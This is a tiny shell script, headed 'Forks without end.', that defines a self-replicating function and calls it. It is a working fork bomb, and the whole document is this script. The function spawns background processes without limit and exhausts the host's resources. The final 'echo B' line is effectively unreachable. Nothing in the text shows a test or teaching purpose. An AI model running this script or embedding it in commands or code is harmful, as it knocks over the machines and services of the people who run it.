# Forks without end.
f() { f | f & }
f
echo B
